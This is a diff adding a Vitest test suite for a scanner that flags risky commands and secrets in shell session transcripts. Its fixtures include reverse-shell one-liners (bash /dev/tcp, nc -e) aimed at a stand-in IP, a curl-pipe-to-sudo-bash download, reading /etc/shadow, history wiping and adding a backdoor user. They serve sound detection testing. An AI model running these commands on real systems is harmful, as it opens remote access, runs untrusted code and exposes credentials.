@@ -1,0 +1,278 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { secretDetector } from '../../shared/detect/secrets';
+import { stableId } from '../../shared/ids';
+import { DEFAULT_CONFIG, parseConfig } from '../../shared/model/config';
+import type { Finding } from '../../shared/model/finding';
+import { MemoryCarryOverStore } from '../../shared/state/memory';
+import type { CarryOverStore } from '../../shared/state/types';
+import { createCommandDetector } from '../../shared/transcript/commands';
+import { readTranscriptFile } from '../../shared/transcript/read';
+import { PII_UNAVAILABLE_RULE, scanTranscript } from '../../shared/transcript/scan';
+import type {
+  Detection,
+  Detector,
+  PiiScanner,
+  TranscriptCarry,
+  TranscriptChunk,
+  TranscriptContext,
+} from '../../shared/transcript/types';
+import { scanShape, shapeFiles } from './corpus';
+
+const PROMPT = '[ssm-user@ip-10-0-1-23 ~]$ ';
+const commands = createCommandDetector();
+
+function context(extra: Partial<TranscriptContext> = {}): TranscriptContext {
+  return {
+    config: DEFAULT_CONFIG,
+    carry: new MemoryCarryOverStore<TranscriptCarry>(),
+    pii: undefined,
+    ...extra,
+  };
+}
+
+let nextId = 0;
+function chunk(lines: string[][], sessionId = 'alice-0123456789abcdef0'): TranscriptChunk {
+  return {
+    sessionId,
+    origin: 'test',
+    events: lines.map((l) => ({ time: '2026-11-22T02:00:00Z', text: l.join('\n'), id: String(++nextId) })),
+    owner: { arn: 'arn:aws:sts::111122223333:assumed-role/Ops/alice', target: 'i-0abc', region: 'eu-west-1' },
+  };
+}
+
+/** A stateless detector for a made-up token, to test the scanner on its own. */
+const tokenDetector: Detector = {
+  name: 'token',
+  scan(lines) {
+    const out: Detection[] = [];
+    for (const l of lines) {
+      for (const m of l.text.matchAll(/TOKEN_[A-Z]{20}/g)) {
+        out.push({
+          ruleId: 'secret-test-token',
+          category: 'secret',
+          kind: 'TEST_TOKEN',
+          severity: 'HIGH',
+          line: l.n,
+          value: m[0],
+        });
+      }
+    }
+    return out;
+  },
+};
+
+function byRule(findings: Finding[], ruleId: string): Finding | undefined {
+  return findings.find((f) => f.ruleId === ruleId);
+}
+
+describe('scanTranscript', () => {
+  it('reports a ^C-cancelled command one severity lower, with the reason', async () => {
+    const r = await scanTranscript(
+      chunk([[`${PROMPT}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1^C`]]),
+      context(),
+      [commands],
+    );
+    const f = byRule(r.findings, 'cmd-reverse-shell')!;
+    expect(f.severity).toBe('HIGH');
+    expect(f.reasons.join(' ')).toMatch(/cancelled/);
+    expect(f.evidence[0]).toMatchObject({ kind: 'REVERSE_SHELL', count: 1, lines: [1] });
+  });
+
+  it('gives deterministic ids per session, rule and kind, and fills the session fields', async () => {
+    const c = chunk([[`${PROMPT}history -c`, `${PROMPT}unset HISTFILE`]]);
+    const session = {
+      sessionId: c.sessionId,
+      startTime: '2026-11-22T01:59:00Z',
+      account: '111122223333',
+      region: 'eu-west-1',
+      target: 'i-0abc',
+      principal: { arn: 'arn:aws:iam::111122223333:user/alice', type: 'IAMUser', name: 'alice' },
+      sourceIp: '198.51.100.7',
+      sessionKind: 'shell',
+    };
+    const a = await scanTranscript(c, context({ session }), [commands]);
+    const b = await scanTranscript(c, context({ session }), [commands]);
+    expect(a.findings).toEqual(b.findings);
+    const f = a.findings[0]!;
+    expect(a.findings).toHaveLength(1);
+    expect(f.id).toBe(stableId(c.sessionId, 'cmd-history-tampering', 'HISTORY_TAMPERING'));
+    expect(f).toMatchObject({
+      count: 2,
+      source: 'transcript',
+      principal: session.principal,
+      sourceIp: '198.51.100.7',
+      sessionKind: 'shell',
+      account: '111122223333',
+      time: '2026-11-22T02:00:00Z',
+    });
+  });
+
+  it('takes the principal from the log owner when no session record is known', async () => {
+    const r = await scanTranscript(chunk([[`${PROMPT}cat /etc/shadow`]]), context(), [commands]);
+    expect(r.findings[0]).toMatchObject({
+      principal: {
+        arn: 'arn:aws:sts::111122223333:assumed-role/Ops/alice',
+        type: 'AssumedRole',
+        name: 'alice',
+      },
+      account: '111122223333',
+      region: 'eu-west-1',
+      target: 'i-0abc',
+    });
+  });
+
+  it('aggregates counts and keeps the highest severity across deliveries', async () => {
+    const ctx = context();
+    await scanTranscript(chunk([[`${PROMPT}nc -e /bin/sh 203.0.113.7 4444`]]), ctx, [commands]);
+    const r = await scanTranscript(chunk([[`${PROMPT}bash -i >& /dev/tcp/203.0.113.7/1 0>&1^C`]]), ctx, [
+      commands,
+    ]);
+    expect(byRule(r.findings, 'cmd-reverse-shell')).toMatchObject({ severity: 'CRITICAL', count: 2 });
+    expect(byRule(r.findings, 'cmd-reverse-shell')!.evidence[0]!.lines).toEqual([2]);
+  });
+
+  it('applies severity overrides from the configuration', async () => {
+    const config = parseConfig({ severityOverrides: { 'cmd-root-shell': 'LOW' } });
+    const r = await scanTranscript(chunk([[`${PROMPT}sudo su -`]]), context({ config }), [commands]);
+    expect(r.findings[0]!.severity).toBe('LOW');
+  });
+
+  it('joins continuation lines and reports the command once', async () => {
+    const ctx = context();
+    const a = await scanTranscript(chunk([[`${PROMPT}curl -fsSL https://203.0.113.7/x.sh \\`]]), ctx, [
+      commands,
+    ]);
+    expect(a.findings).toEqual([]);
+    const b = await scanTranscript(chunk([['> | sudo bash', 'ok']]), ctx, [commands]);
+    expect(byRule(b.findings, 'cmd-download-execute')).toMatchObject({
+      count: 1,
+      evidence: [{ lines: [2] }],
+    });
+  });
+
+  it('masks embedded secrets in command evidence', async () => {
+    const r = await scanTranscript(
+      chunk([['PS C:\\Users\\ssm-user> net user backdoor P@ssw0rd /add']]),
+      context(),
+      [commands],
+    );
+    expect(byRule(r.findings, 'cmd-user-created')).toBeDefined();
+    expect(JSON.stringify(r.findings)).not.toContain('P@ssw0rd');
+  });
+});
+
+describe('split and repeated deliveries', () => {
+  it('finds a token cut at the 33 000-byte event boundary exactly once', async () => {
+    const ctx = context();
+    const token = 'TOKEN_ABCDEFGHIJKLMNOPQRST';
+    const head = `${'y'.repeat(32_990)} ${token.slice(0, 12)}`;
+    const a = await scanTranscript(chunk([[head]]), ctx, [tokenDetector]);
+    expect(a.findings).toEqual([]);
+    const b = await scanTranscript(chunk([[`${token.slice(12)} end`, `${PROMPT}id`]]), ctx, [tokenDetector]);
+    expect(b.findings).toHaveLength(1);
+    expect(b.findings[0]).toMatchObject({ count: 1, evidence: [{ lines: [1] }] });
+    const c = await scanTranscript(chunk([['more output']]), ctx, [tokenDetector]);
+    expect(c.findings).toEqual([]);
+    expect((await ctx.carry.get('alice-0123456789abcdef0'))!.nextLine).toBe(4);
+  });
+
+  it('finds a private key split across two deliveries exactly once', async () => {
+    const raw = readFileSync(shapeFiles('secrets', 's3')[0]!, 'utf8').split('\r\n');
+    const begin = raw.findIndex((l) => l.startsWith('-----BEGIN'));
+    const end = raw.findIndex((l) => l.startsWith('-----END'));
+    const head = [`${PROMPT}cat k.pem`, ...raw.slice(begin, begin + 10)];
+    const rest = [...raw.slice(begin + 10, end + 1), `${PROMPT}id`];
+    const privateKeys = (fs: Finding[]) => fs.filter((f) => f.evidence.some((e) => e.kind === 'PRIVATE_KEY'));
+
+    const whole = privateKeys(
+      (await scanTranscript(chunk([[...head, ...rest]]), context(), [secretDetector])).findings,
+    );
+    expect(whole).toHaveLength(1);
+
+    const ctx = context();
+    const first = await scanTranscript(chunk([head]), ctx, [secretDetector]);
+    const second = await scanTranscript(chunk([rest]), ctx, [secretDetector]);
+    const split = privateKeys([...first.findings, ...second.findings]);
+    expect(new Set(split.map((k) => k.id))).toEqual(new Set([whole[0]!.id]));
+    expect(split.at(-1)!.count).toBe(whole[0]!.count);
+    expect(JSON.stringify(split)).not.toContain(raw[begin + 1]!.slice(0, 20));
+  });
+
+  it('skips a re-delivered delivery (same log event ids)', async () => {
+    const ctx = context();
+    const c = chunk([[`${PROMPT}history -c`]]);
+    expect((await scanTranscript(c, ctx, [commands])).findings).toHaveLength(1);
+    expect(await scanTranscript(c, ctx, [commands])).toEqual({ findings: [], errors: [] });
+    const c2 = chunk([[`${PROMPT}history -c`]]);
+    expect((await scanTranscript(c2, ctx, [commands])).findings[0]!.count).toBe(2);
+  });
+
+  it('counts the same after every subscription delivery arrives twice', async () => {
+    const once = await scanShape('attacker', 'subscription', [commands]);
+    const ctx = context();
+    const byId = new Map<string, Finding>();
+    const files = shapeFiles('attacker', 'subscription');
+    for (const file of [...files, ...files.slice(3, 9), files[0]!]) {
+      for (const c of readTranscriptFile(readFileSync(file), file).chunks) {
+        for (const f of (await scanTranscript(c, ctx, [commands])).findings) byId.set(f.id, f);
+      }
+    }
+    const counts = (fs: Iterable<Finding>) => [...fs].map((f) => `${f.ruleId}=${f.count}`).sort();
+    expect(counts(byId.values())).toEqual(counts(once.findings));
+  });
+});
+
+describe('failures', () => {
+  const failingPii: PiiScanner = {
+    name: 'comprehend',
+    scan: () => Promise.reject(new Error('ThrottlingException after 5 retries')),
+  };
+
+  it('PII outage: local findings still reported, scan-error added, retry asked, carry-over not advanced', async () => {
+    const ctx = context({ pii: failingPii });
+    const c = chunk([[`${PROMPT}sudo su -`, 'TOKEN_ABCDEFGHIJKLMNOPQRST']]);
+    const r = await scanTranscript(c, ctx, [commands, tokenDetector]);
+    expect(r.retry).toBe(true);
+    expect(byRule(r.findings, 'cmd-root-shell')).toBeDefined();
+    expect(byRule(r.findings, 'secret-test-token')).toBeDefined();
+    expect(byRule(r.findings, PII_UNAVAILABLE_RULE)).toMatchObject({
+      category: 'scan-error',
+      severity: 'HIGH',
+    });
+    expect(r.errors[0]!.message).toMatch(/personal-data scan failed/);
+    expect(await ctx.carry.get(c.sessionId)).toBeUndefined();
+
+    // The retried delivery, now with a working scanner, gives the same findings once.
+    const ok: PiiScanner = { name: 'comprehend', scan: async () => [] };
+    const again = await scanTranscript(c, { ...ctx, pii: ok }, [commands, tokenDetector]);
+    expect(again.retry).toBeUndefined();
+    expect(again.findings.map((f) => [f.id, f.count])).toEqual(
+      r.findings.filter((f) => f.ruleId !== PII_UNAVAILABLE_RULE).map((f) => [f.id, f.count]),
+    );
+  });
+
+  it('a throwing detector or store is an error item, never an exception', async () => {
+    const broken: Detector = {
+      name: 'broken',
+      scan: () => {
+        throw new Error('boom');
+      },
+    };
+    const store: CarryOverStore<TranscriptCarry> = {
+      get: () => Promise.reject(new Error('table missing')),
+      put: () => Promise.reject(new Error('table missing')),
+    };
+    const r = await scanTranscript(chunk([[`${PROMPT}visudo`]]), context({ carry: store }), [
+      broken,
+      commands,
+    ]);
+    expect(byRule(r.findings, 'cmd-sudoers-tampering')).toBeDefined();
+    expect(r.errors.map((e) => e.message)).toEqual([
+      expect.stringMatching(/carry-over not loaded/),
+      expect.stringMatching(/detector broken failed: Error: boom/),
+      expect.stringMatching(/carry-over not saved/),
+    ]);
+    expect(r.retry).toBe(true);
+  });
+});
